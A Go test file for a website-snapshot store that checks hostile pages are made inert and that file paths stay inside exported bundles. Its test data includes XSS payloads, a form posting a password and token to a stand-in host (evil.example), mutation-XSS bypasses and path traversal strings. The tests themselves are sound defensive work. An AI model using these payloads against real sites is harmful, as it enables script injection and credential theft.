package snapshot_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"pasban/monitor"
	"pasban/storage/blob"
	"pasban/storage/blob/blobtest"
	"pasban/storage/snapshot"
)

// office is a site of a few pages whose rendered trees a test writes by hand, as package
// render would serialise them.
type office struct {
	*httptest.Server
	pages map[string]string // body, by path
	files map[string]answer
}

type answer struct{ mime, body string }

func newOffice(t testing.TB) *office {
	o := &office{pages: map[string]string{}, files: map[string]answer{}}
	o.Server = httptest.NewServer(o)
	t.Cleanup(o.Close)
	o.file("/style.css", "text/css", "body{background:url(bg.png)}@import 'more.css';")
	o.file("/more.css", "text/css", "@font-face{src:url('/f.woff2')}")
	o.file("/bg.png", "image/png", dot(1))
	o.file("/f.woff2", "font/woff2", "wOF2 and so on")
	return o
}

func (o *office) file(path, mime, body string) { o.files[path] = answer{mime, body} }

// ServeHTTP implements http.Handler.
func (o *office) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if f, ok := o.files[r.URL.Path]; ok {
		w.Header().Set("Content-Type", f.mime)
		_, _ = w.Write([]byte(f.body))
		return
	}
	if body, ok := o.pages[r.URL.RequestURI()]; ok {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(body))
		return
	}
	http.NotFound(w, r)
}

// look is SnapshotOrder.Look.
func (o *office) look(_ context.Context, address string) (monitor.SnapshotLook, error) {
	body, ok := o.pages[strings.TrimPrefix(address, o.URL)]
	if !ok {
		return monitor.SnapshotLook{}, fmt.Errorf("%w: status 404", monitor.ErrUnfit)
	}
	return monitor.SnapshotLook{FinalURL: address, Title: "t", HTML: []byte(document(body)), At: made}, nil
}

func document(body string) string {
	return `<!DOCTYPE html><html><head><link rel="stylesheet" href="/style.css"><title>t</title></head><body>` + body + `</body></html>`
}

var made = time.Date(2026, 11, 28, 6, 0, 0, 0, time.UTC)

func dot(shade uint8) string {
	img := image.NewGray(image.Rect(0, 0, 8, 8))
	img.SetGray(1, 1, color.Gray{shade})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return b.String()
}

// copied makes a copy of an office and returns it with its store and blobs.
func copied(t testing.TB, o *office, forms snapshot.Forms, pages int) (monitor.Snapshot, *snapshot.Store, string) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "blobs")
	s, store := copyInto(t, o, dir, forms, pages)
	return s, store, dir
}

func copyInto(t testing.TB, o *office, dir string, forms snapshot.Forms, pages int) (monitor.Snapshot, *snapshot.Store) {
	t.Helper()
	order := o.order()
	order.Pages = pages
	return built(t, dir, forms, order)
}

// order asks for a copy of an office, of which the front page is watched.
func (o *office) order() monitor.SnapshotOrder {
	return monitor.SnapshotOrder{
		ID: "0190a", Site: "office", URL: o.URL + "/", At: made, Pages: 5, Look: o.look, Fetch: http.DefaultTransport, Agent: "test",
		Of: []monitor.SnapshotOf{{Target: "office", URL: o.URL + "/", Version: 1}},
	}
}

// built makes the copy that is ordered, and returns it with its store.
func built(t testing.TB, dir string, forms snapshot.Forms, order monitor.SnapshotOrder) (monitor.Snapshot, *snapshot.Store) {
	t.Helper()
	blobs, err := blob.Open(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	store, err := snapshot.New(snapshot.Config{Blobs: blobs, Forms: forms})
	if err != nil {
		t.Fatal(err)
	}
	built, err := store.Build(t.Context(), order)
	if err != nil {
		t.Fatal(err)
	}
	return monitor.Snapshot{ID: order.ID, Site: order.Site, Created: made, Of: order.Of, Manifest: built.Manifest, Pages: built.Pages,
		Files: built.Files, Bytes: built.Bytes, LeftOut: built.LeftOut, State: monitor.Proved, Proofs: []monitor.SnapshotProof{{Likeness: 1}}}, store
}

// exported writes a bundle and returns the files in it by path.
func exported(t testing.TB, store *snapshot.Store, s monitor.Snapshot) (path string, files map[string]string, key *snapshot.Key) {
	t.Helper()
	dir := t.TempDir()
	key, err := snapshot.OpenKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	path = filepath.Join(dir, "b.tar.zst")
	if _, err := store.Export(t.Context(), snapshot.Export{Copy: s, Key: key, Out: path, Host: "office.example"}); err != nil {
		t.Fatal(err)
	}
	return path, untar(t, path), key
}

// hostile is what an intruder may have left in a page that was approved all the same.
const hostile = `
<script>alert(1)</script><script src="https://evil.example/x.js"></script>
<img src="/bg.png" onerror="alert(1)" onload=alert(2)><img src="https://evil.example/track.gif"><img src="//evil.example/t.gif">
<a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(1)">b</a><a href="data:text/html,<script>alert(1)</script>">c</a><a href="vbscript:x">d</a>
<form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="p" value="secret"><input type="file"><input type="hidden" name="token" value="t0k3n"><button>go</button><input type="submit"><input type="image" src="/bg.png"><textarea></textarea><select><option>1</option></select></form>
<input type="text" form="elsewhere"><button formaction="https://evil.example/">x</button>
<iframe src="https://evil.example/frame" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><template data-frame="https://evil.example/frame"><html><head><script>alert(3)</script><base href="https://evil.example/"></head><body class="inner" onload="x()"><p>framed</p><form action="/x"><input></form></body></html></template>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><applet code="x"></applet>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="preload" href="https://evil.example/p" as="script"><link rel="import" href="/x">
<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>s</text></a><animate attributeName="href" values="javascript:alert(1)"/><foreignObject><script>alert(1)</script></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 on error=x&gt;"></style></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
<div style="background:url(https://evil.example/bg.png);behavior:url(x.htc)" contenteditable>e</div>
<svg><style>@imp<!-- -->ort "https://evil.example/i.css";<g></g>a{fill:\75rl(https://evil.example/p)}</style></svg>
<p style="background:\75rl(https://evil.example/p)">e</p>
<style>@import url(https://evil.example/i.css); p{background:url("https://evil.example/p.png")} </style>
<p-card><template shadowrootmode="closed"><style>p{color:red}</style><script>alert(1)</script><form action="https://evil.example"><input></form><p>in the shadow</p><slot><b>slotted</b></slot></template></p-card>
<template><form action="https://evil.example"><input></form></template>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><portal src="https://evil.example"></portal>
<a href="/about" ping="https://evil.example/ping">about</a><a href="/style.css">s</a>
<plaintext><script>alert(1)</script>`

// Nothing of a hostile page acts in a copy, names another host where a browser would ask
// it, or keeps what somebody typed; what it shows is there.
func TestNothingActs(t *testing.T) {
	for _, forms := range []snapshot.Forms{snapshot.Weld, snapshot.Remove} {
		o := newOffice(t)
		o.pages["/"], o.pages["/about"] = hostile, "<p>about</p>"
		s, store, _ := copied(t, o, forms, 5)
		_, files, _ := exported(t, store, s)
		home := files["www/index.html"]
		for _, text := range []string{"framed"} {
			if strings.Contains(home, text) {
				t.Errorf("%s: %q is in the page and not in its frame", forms, text)
			}
		}
		for _, text := range []string{"in the shadow", "slotted", `shadowrootmode="open"`, `href="about/"`} {
			if !strings.Contains(home, text) {
				t.Errorf("%s: %q is lost: %.3000s", forms, text, home)
			}
		}
		if has := strings.Contains(home, "<form"); has != (forms == snapshot.Weld) {
			t.Errorf("%s: there is a form: %v", forms, has)
		}
		for path, content := range files {
			if !strings.HasPrefix(path, "www/") || !strings.HasSuffix(path, ".html") && !strings.HasSuffix(path, ".css") {
				continue
			}
			for _, bad := range []string{"evil.example", "<script", "alert", "onerror", "javascript:", "t0k3n", "secret", "steal"} {
				if strings.Contains(content, bad) {
					t.Errorf("%s: %s holds %q: ...%s", forms, path, bad, around(content, bad))
				}
			}
			if strings.HasSuffix(path, ".html") {
				if err := snapshot.CheckInert([]byte(content)); err != nil {
					t.Errorf("%s: %s: %v", forms, path, err)
				}
			}
		}
		if err := store.Verify(t.Context(), s.Manifest); err != nil {
			t.Error(err)
		}
	}
}

func around(s, what string) string {
	i := strings.Index(s, what)
	return s[max(0, i-80):min(len(s), i+80)]
}

// The check finds each thing that acts by itself, whoever wrote the page.
func TestCheckInert(t *testing.T) {
	o := newOffice(t)
	o.pages["/"] = "<p>well</p>"
	s, store, _ := copied(t, o, snapshot.Weld, 1)
	_, files, _ := exported(t, store, s)
	good := files["www/index.html"]
	if err := snapshot.CheckInert([]byte(good)); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{
		"<script></script>", "<p onclick=x>", "<form></form>", "<input disabled>", `<input inert disabled type=password>`, "<iframe src=x></iframe>",
		`<iframe sandbox srcdoc="x"></iframe>`, "<a href='java\tscript:x'>", `<img src="https://x.example/a.png">`, `<img src=//x.example/a.png>`,
		"<template></template>", `<meta http-equiv=refresh content=0>`, "<base href=/x>", "<object>", "<embed src=x>", "<svg><script>1</script></svg>",
		"<button>x</button>", "<a ping=x>", `<iframe sandbox src="data:text/html,x"></iframe>`, "<noscript>x</noscript>",
		`<style>@\69mport "https://x.example/a"</style>`, `<p style="background:url(//x.example/a)">`, `<svg><style>@imp<!-- -->ort "https://x.example/a"</style></svg>`,
	} {
		if err := snapshot.CheckInert([]byte(strings.Replace(good, "<p>well", bad+"<p>well", 1))); !errors.Is(err, snapshot.ErrActs) {
			t.Errorf("%s passes: %v", bad, err)
		}
	}
	if err := snapshot.CheckInert([]byte("<p>no policy</p>")); !errors.Is(err, snapshot.ErrActs) {
		t.Errorf("a page without a policy passes: %v", err)
	}
}

// Addresses of a hostile site become paths of a copy, or a hash, and never lead out of it.
func TestNamesStayInside(t *testing.T) {
	o := newOffice(t)
	var links strings.Builder
	for _, path := range []string{"/../../etc/passwd", "/%2e%2e/%2e%2e/x", "/a%00b", "/C:/windows", "/-rf", "/.htaccess", "/con%20x", "/con/", "/Aux.html", "/a/nul", "/lpt1.tar.gz/x", "/com9", "/con/x", "/console", "/com", "/a\\b", "/%2f%2fetc", "/" + strings.Repeat("a", 300),
		"/_pasban/x", "/404.html", "/About", "/about", "/about/index.html", "/x.html", "/x.html/y", "/page.php?id=5", "/page.php?id=../../6", "/%D8%AE%D8%A8%D8%B1%DB%8C%DA%BA", "/a%E2%80%AEb"} {
		o.pages[path] = "<p>" + path + "</p>"
		fmt.Fprintf(&links, `<a href="%s">x</a>`, path)
	}
	o.pages["/"] = links.String()
	s, store, _ := copied(t, o, snapshot.Weld, 100)
	_, files, _ := exported(t, store, s)
	seen := map[string]bool{}
	for path := range files {
		if !filepath.IsLocal(path) || strings.ContainsAny(path, "\\:\x00\u202e") || strings.Contains(path, "/.") || strings.Contains(path, "/-") {
			t.Errorf("the bundle has the path %q", path)
		}
		for segment := range strings.SplitSeq(strings.ToLower(path), "/") {
			switch name, _, _ := strings.Cut(segment, "."); name {
			case "con", "aux", "nul", "lpt1", "com9":
				t.Errorf("the bundle has the path %q, which is a device on Windows", path)
			}
		}
		if low := strings.ToLower(path); seen[low] {
			t.Errorf("two paths are %q on a file system that does not tell capitals", low)
		} else {
			seen[low] = true
		}
	}
	if s.Pages < 24 {
		t.Errorf("only %d pages are in the copy: %q", s.Pages, s.LeftOut)
	}
	for _, want := range []string{"www/خبریں/index.html", "www/console/index.html", "www/com/index.html"} {
		if _, ok := files[want]; !ok {
			t.Errorf("a page has lost its address: %s is not there", want)
		}
	}
}

// A page that says <base href="/">, as Joomla's do, does not stand for the front page, and
// frames in it keep their pictures.
func TestBaseIsNoPlace(t *testing.T) {
	o := newOffice(t)
	o.pages["/about"] = `<base href="` + o.URL + `/"><a href="./">home</a><iframe src="/in/frame.html"></iframe>` +
		`<template data-frame="x"><html><head></head><body><img src="own.png"></body></html></template>`
	o.pages["/"] = "<p>the front page</p>"
	o.file("/in/own.png", "image/png", dot(9))
	order := o.order()
	order.Of = []monitor.SnapshotOf{{Target: "office", URL: o.URL + "/about", Version: 1}}
	s, store := built(t, filepath.Join(t.TempDir(), "blobs"), snapshot.Weld, order)
	_, files, _ := exported(t, store, s)
	if _, ok := files["www/index.html"]; !ok {
		t.Errorf("the front page is not in the copy: %q", s.LeftOut)
	}
	found := false
	for _, content := range files {
		found = found || content == dot(9)
	}
	if !found {
		t.Errorf("the picture of the frame is not in the copy: %q", s.LeftOut)
	}
}

// What is too large, is not what it should be, or is somewhere else, is left out, and said.
func TestLeftOutIsTold(t *testing.T) {
	o := newOffice(t)
	o.file("/huge.png", "image/png", dot(2)+strings.Repeat("x", 13<<20))
	o.file("/page.png", "image/png", "<html>not a picture")
	o.file("/app.css", "text/html", "<script>")
	o.file("/ok.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><circle r="5" fill="url(#g)"/><image href="https://evil.example/x"/></svg>`)
	o.file("/bad.svg", "image/svg+xml", `<svg><circle></svg>`)
	o.pages["/"] = `<img src="/huge.png"><img src="/page.png"><img src="/none.png"><link rel=stylesheet href="/app.css"><img src="/ok.svg"><img src="/bad.svg"><a href="/gone">x</a>`
	s, store, _ := copied(t, o, snapshot.Weld, 5)
	all := strings.Join(s.LeftOut, "\n")
	for _, want := range []string{"huge.png: left out: it has more than 12 MiB", "page.png: it is none", "none.png: left out: status 404", "app.css: it is none", "bad.svg: it is no well-formed SVG", "/gone: not fit for a copy"} {
		if !strings.Contains(all, want) {
			t.Errorf("not told: %s\n%s", want, all)
		}
	}
	_, files, _ := exported(t, store, s)
	for path, content := range files {
		if strings.HasSuffix(path, ".svg") && (strings.Contains(content, "alert") || strings.Contains(content, "evil") || !strings.Contains(content, "circle")) {
			t.Errorf("%s: %s", path, content)
		}
	}
}

// A watched page that cannot be seen makes no copy.
func TestWatchedPageMustBeThere(t *testing.T) {
	o := newOffice(t)
	blobs, err := blob.Open(t.Context(), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	store, err := snapshot.New(snapshot.Config{Blobs: blobs})
	if err != nil {
		t.Fatal(err)
	}
	_, err = store.Build(t.Context(), monitor.SnapshotOrder{ID: "1", Site: "office", URL: o.URL, Look: o.look, Fetch: http.DefaultTransport,
		Of: []monitor.SnapshotOf{{URL: o.URL + "/"}}})
	if !errors.Is(err, monitor.ErrUnfit) {
		t.Errorf("a copy without its page: %v", err)
	}
}

// Two copies share what did not change between them.
func TestCopiesShareWhatTheyCan(t *testing.T) {
	o := newOffice(t)
	o.pages["/"], o.pages["/about"] = `<a href="/about">about</a>`, "<p>about</p>"
	dir := filepath.Join(t.TempDir(), "blobs")
	first, store := built(t, dir, snapshot.Weld, o.order())
	o.pages["/"] += "<p>news</p>"
	order := o.order()
	order.ID = "0190b"
	second, _ := built(t, dir, snapshot.Weld, order)
	known := map[string]bool{}
	for _, d := range digestsOf(t, store, first) {
		known[d] = true
	}
	fresh := 0
	for _, d := range digestsOf(t, store, second) {
		if !known[d] {
			fresh++
		}
	}
	// The page in the copy, as it was rendered, as the server sent it; and the index.
	if fresh != 4 {
		t.Errorf("the second copy has %d blobs of its own, of %d; want 4", fresh, len(digestsOf(t, store, second)))
	}
}

func digestsOf(t *testing.T, store *snapshot.Store, s monitor.Snapshot) []string {
	t.Helper()
	digests, err := store.Digests(t.Context(), s.Manifest)
	if err != nil {
		t.Fatal(err)
	}
	return digests
}

// A copy that lost a file, or has another in its place, is found out.
func TestVerifyFindsDamage(t *testing.T) {
	o := newOffice(t)
	o.pages["/"] = "<p>well</p>"
	s, store, dir := copied(t, o, snapshot.Weld, 1)
	digests, err := store.Digests(t.Context(), s.Manifest)
	if err != nil || len(digests) < 6 {
		t.Fatalf("digests %q: %v", digests, err)
	}
	for _, d := range digests {
		path := filepath.Join(dir, "sha256", d[:2], d[2:4], d)
		whole, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for what, damage := range map[string]func() error{
			"removed": func() error { return os.Remove(path) },
			"changed": func() error {
				return errors.Join(os.Chmod(path, 0o600), os.WriteFile(path, append([]byte("x"), whole[1:]...), 0o600))
			},
		} {
			if err := damage(); err != nil {
				t.Fatal(err)
			}
			if err := store.Verify(t.Context(), s.Manifest); !errors.Is(err, monitor.ErrNotFound) && !errors.Is(err, monitor.ErrCorrupt) {
				t.Errorf("blob %s %s: %v", d, what, err)
			}
			_ = os.Remove(path) // it may be gone
			if err := os.WriteFile(path, whole, 0o444); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := store.Verify(t.Context(), s.Manifest); err != nil {
		t.Errorf("when all is back: %v", err)
	}
}

// A copy is kept by MinIO under object lock like any evidence, and is recalled from there
// by its manifest alone.
func TestMinIOUnderLock(t *testing.T) {
	o := newOffice(t)
	o.pages["/"], o.pages["/a"] = `<a href="/a">a</a>`, "<p>a</p>"
	s, store := copyInto(t, o, blobtest.MinIO(t)+"&lock=governance:1d", snapshot.Weld, 5)
	if err := store.Verify(t.Context(), s.Manifest); err != nil {
		t.Error(err)
	}
	recalled, err := store.Recall(t.Context(), s.Manifest)
	if err != nil || recalled.State != monitor.Unproved || recalled.Pages != s.Pages || recalled.Bytes != s.Bytes || recalled.ID != s.ID {
		t.Errorf("recalled %+v of %+v: %v", recalled, s, err)
	}
	exported(t, store, s)
}
